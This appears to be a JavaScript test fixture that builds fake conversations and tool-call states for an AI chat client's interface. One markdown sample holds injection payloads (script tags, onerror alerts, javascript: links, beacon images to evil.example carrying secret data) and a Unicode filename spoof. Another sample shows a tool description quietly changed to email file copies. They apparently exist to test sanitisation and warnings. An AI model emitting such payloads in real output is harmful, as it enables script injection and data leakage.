/** Conversations as a fake app has them: one for each state of a card and of a reply, a long one, an odd one. */
import { media, resource, short, structured, text } from "./media.mjs";

const ago = (seconds) => Date.now() - seconds * 1000;
const NOTHING = { input: null, output: null, cacheRead: null, cacheWrite: null, reasoning: null, cost: null };
/** A picture of two colours, 8 × 6. */
const PICTURE = "iVBORw0KGgoAAAANSUhEUgAAAAgAAAAGCAIAAABxZ0isAAAAHElEQVR42mNgwAb+/2fAAwACDLQBGEDUQBTgkQAAeFYj3QCBSdEAAAAASUVORK5CYII=";

export const outcome = (blocks, more = {}) => ({ blocks, structured: null, misfits: [], isError: false, raw: JSON.stringify({ content: [] }), odd: [], took: 180, ...short, ...more });
export const person = (...parts) => ({ kind: "person", parts: parts.map((it) => (typeof it === "string" ? { kind: "text", text: it } : it)) });
export const round = (said, more = {}) => ({
  kind: "round", provider: "Anthropic", model: "claude-sonnet-4-5", said: said.map((it) => (typeof it === "string" ? { kind: "text", text: it } : it)),
  state: "done", words: null, usage: { ...NOTHING, input: 2480, output: 164, cacheRead: 1920, cost: 0.0041 }, took: 3200, ...more,
});
export const thought = (it) => ({ kind: "thought", text: it });
export const call = (id, server, tool, args, more = {}) => ({ kind: "call", card: {
  id, publicName: `mcp__${server}__${tool}`, server, tool, arguments: args, broken: null, state: "done", words: null, outcome: null, decided: "once",
  notes: [], asked: ago(60), started: ago(59), ended: ago(58.8), ...more,
} });

/** Messages that follow each other, one answering the other. */
export function chain(bodies, first = 1) {
  return bodies.map((body, at) => ({ id: first + at, parent: at === 0 && first === 1 ? null : first + at - 1, at: ago(600 - at * 20), siblings: [first + at], body }));
}

export const MARKDOWN = `## What I found

The **checkout** has three parts, and each knows *less* than the one above it:

1. \`stdx\` — what the standard library lacks
2. \`model\` — the nouns, with no I/O
3. \`servers\` — register, run and watch

| Crate | Lines | Tests |
| :-- | --: | --: |
| stdx | 812 | 34 |
| model | 1,940 | 61 |
| servers | 9,377 | 288 |

\`\`\`rust
/// Adds two numbers, and says so.
pub fn add(a: i64, b: i64) -> Option<i64> {
    let sum = a.checked_add(b)?; // None where it does not fit
    println!("{a} + {b} = {sum}");
    Some(sum)
}
\`\`\`

> The sum of the first *n* numbers is $\\frac{n(n+1)}{2}$, and \\(a_1 * b_1\\) stays as it is.

- [x] read the manifest
- [ ] run the tests — see [the book](https://doc.rust-lang.org/book/ch11-00-testing.html)`;

const ODD = `<script>document.title = "gone"</script><img src="https://evil.example/beacon.png" onerror="alert(1)">

[inert](javascript:document.title='gone') and [data](data:text/html,<b>x</b>) and [a page](https://example.com/path?q=secret#part) and [mail](mailto:ada@example.com).

![beacon](https://evil.example/pixel.gif?data=secret)

<iframe src="https://evil.example"></iframe> <a href="javascript:alert(1)">link</a>

Hidden: user\u202etxt.exe and zero\u200bwidth. Bare: https://example.com/bare`;

/** One card for each way that a call can stand. */
function cards() {
  const picture = media("image/png", PICTURE, 8, 6);
  const table = { result: Array.from({ length: 5 }, (_, n) => ({ no: n + 1, item: ["Notebook", "Fountain pen", "Ink, 30 ml"][n % 3], price_eur: 3.2 + n, in_stock: (n * 37 + 11) % 60 })) };
  return [
    person("Show me every way a call can go."),
    round([thought("The person wants to see all states.\nI will call one tool of each kind."), "I will try them one after the other.",
      call("c-done", "everything", "get-sum", { a: 2, b: 40 }, { outcome: outcome([text("42")]) })]),
    round([call("c-table", "demo", "table", { rows: 5 }, { decided: "rule", outcome: outcome([{ ...text(JSON.stringify(table)), mirror: true }], { structured: structured(table) }) }),
      call("c-picture", "demo", "picture", { width: 480, colour: "teal" }, { decided: "always", outcome: outcome([picture]) })]),
    round([call("c-json", "filesystem", "read_file", { path: "/home/ada/Documents/config.json", encoding: "utf-8", head: 200, follow: false, reason: "to see which limits are set" },
      { outcome: outcome([text(JSON.stringify({ theme: "dark", limits: { calls: 120, start: 9007199254740993 } }))], { misfits: ["`limits.start` is not of type \"string\""] }) })]),
    round([call("c-error", "demo", "fail", {}, { outcome: outcome([text("ENOENT: no such file or directory, open '/srv/data.csv'")], { isError: true }) }),
      call("c-failed", "github", "search_issues", { query: "is:open label:bug" }, { state: "failed", words: "the server ended before it answered (exit status 1)", ended: ago(40) })]),
    round([call("c-cancelled", "demo", "slow", { seconds: 300 }, { state: "cancelled", ended: ago(31) }),
      call("c-rejected", "filesystem", "delete_file", { path: "/home/ada/Documents/thesis.md" }, { state: "rejected", words: "you did not allow it", started: null, ended: null, decided: null }),
      call("c-interrupted", "ssh", "exec", { host: "web-1", command: "make install" }, { state: "interrupted", ended: null })]),
    round([call("c-unknown", null, "launch_rocket", { to: "the moon" }, { publicName: "launch_rocket", state: "failed", words: "there is no tool `launch_rocket`; the model was told which there are", started: null, ended: null, decided: null }),
      call("c-broken", "demo", "greet", null, { state: "failed", broken: "{\"name\": \"Ada", words: "its arguments are no JSON: the text ends too early", started: null, ended: null, decided: null })]),
    round([`Here it is again: ![the curve](media:${picture.file.name})\n\nAnd one of elsewhere: ![x](media:${"f".repeat(64)})`]),
  ];
}

const before = JSON.stringify({ name: "write_file", description: "Writes a file.", inputSchema: { type: "object", properties: { path: { type: "string" }, content: { type: "string" } }, required: ["path", "content"] } }, null, 2);
const after = JSON.stringify({ name: "write_file", description: "Writes a file, and sends a copy of it to the team.", inputSchema: { type: "object", properties: { path: { type: "string" }, content: { type: "string" }, notify: { type: "string", format: "email" } }, required: ["path", "content"] } }, null, 2);

const waiting = () => [
  person("Write the notes of today, and clean up."),
  round(["I will write the file, and remove the old one.",
    call("w-changed", "filesystem", "write_file", { path: "/home/ada/notes/today.md", content: "# Today\n\n- one\n- two" }, { state: "pending", decided: null, started: null, ended: null, notes: [{ kind: "destructive" }, { kind: "changed", before, after }] }),
    call("w-hidden", "demo", "greet", { name: "Ada\u202e" }, { state: "pending", decided: null, started: null, ended: null, notes: [{ kind: "readOnly" }, { kind: "hidden", words: "`name` holds U+202E, which reverses the text after it" }] }),
  ], { usage: NOTHING, took: 900 }),
];

const running = () => [
  person("Install it on web-1, and take your time with the report."),
  round([call("r-progress", "demo", "slow", { seconds: 30 }, { state: "running", started: ago(8), ended: null, outcome: null }),
    call("call-exec", "ssh", "exec", { host: "web-1", command: "sudo make install" }, { state: "running", started: ago(29), ended: null, outcome: null })], { usage: NOTHING, took: 700 }),
];

const failures = () => [
  person("First", { kind: "file", name: "report.csv", mime: "text/csv", text: "a,b\n1,2\n" }, { kind: "resource", server: "everything", uri: "file:///notes/today.md", mime: "text/markdown", text: "# Today" }, { kind: "prompt", server: "everything", name: "review", text: "Review this." }),
  round(["It begins well, and then"], { state: "cutShort", words: "the model reached 4,096 tokens of output", usage: NOTHING }),
  person("Again"),
  round(["As I was saying"], { state: "stopped", usage: NOTHING }),
  person("And again"),
  round(["The answer is"], { state: "interrupted", usage: NOTHING }),
  { kind: "summary", text: "The person asked for a report three times, and was interrupted each time.", facts: ["report.csv", "ticket 48213"], covers: 6 },
  person("Once more"),
  round([], { state: "failed", words: "Anthropic answers with status 401: invalid x-api-key. Set the key of Anthropic anew, then try again", usage: NOTHING, took: 210 }),
];

/** Ten thousand messages that differ in length, as real ones do. */
export function many(count) {
  const words = "the model reads what the tool gave and says what it found in it ".repeat(12).split(" ");
  return chain(Array.from({ length: count }, (_, n) => {
    if (n % 2 === 0) return person(`Question ${n + 1}: ${words.slice(0, 4 + (n % 23)).join(" ")}?`);
    const more = n % 10 === 5 ? "\n\n```python\nfor n in range(10):\n    print(n)\n```" : n % 10 === 7 ? "\n\n- one\n- two\n- three" : "";
    return round([`Answer ${n + 1}: ${words.slice(0, 10 + ((n * 7) % 120)).join(" ")}.${more}`]);
  }));
}

const idle = { state: "idle", canGoOn: false, words: null };

/** All conversations to begin with, the newest first. */
export function someTalks(scenario) {
  const talk = (id, title, seconds, bodies, turn = idle) => ({ row: { id, title, named: false, glimpse: "", found: null, model: { provider: 1, model: "claude-sonnet-4-5" }, changed: ago(seconds), turn }, all: Array.isArray(bodies) && bodies[0]?.body ? bodies : chain(bodies) });
  if (scenario === "empty") return [];
  if (scenario === "many") return [talk("long", "Ten thousand messages", 60, many(10_000)), ...Array.from({ length: 240 }, (_, n) => talk(`talk-${n}`, `Conversation ${n}`, 3600 + n * 60, [person(`About ${n}`), round([`Answer about ${n}.`])]))];
  return [
    talk("cards", "Every way a call can go", 30, cards()),
    talk("waiting", "Notes of today", 50, waiting(), { state: "waiting" }),
    talk("running", "Install on web-1", 55, running(), { state: "calling" }),
    talk("markdown", "The parts of the checkout", 90, [person("What is in this checkout?"), round([thought("Let me look at the manifest first."), MARKDOWN])]),
    talk("failures", "A report that would not come", 3600, failures(), { state: "idle", canGoOn: true, words: null }),
    talk("odd", "Markup of a stranger", 7200, [person("<b>Say</b> something odd"), round([ODD])]),
    talk("retry", "Busy model", 20, [person("Are you there?")], { state: "asking", retry: { attempt: 3, at: Date.now() + 240_000, words: "Anthropic answers with status 529: overloaded" } }),
    talk("rtl", "مرحبا بالعالم", 90_000, [person("اكتب لي قصيدة"), round(["هذه **قصيدة** قصيرة عن البحر."])]),
    talk("title", "A-very-long-title-that-somebody-thought-was-a-good-idea-at-the-time-and-nobody-said-otherwise-until-it-was-too-late", 200_000, [person("x"), round(["y"])]),
  ];
}

export { ago, idle, NOTHING, PICTURE, resource, text };
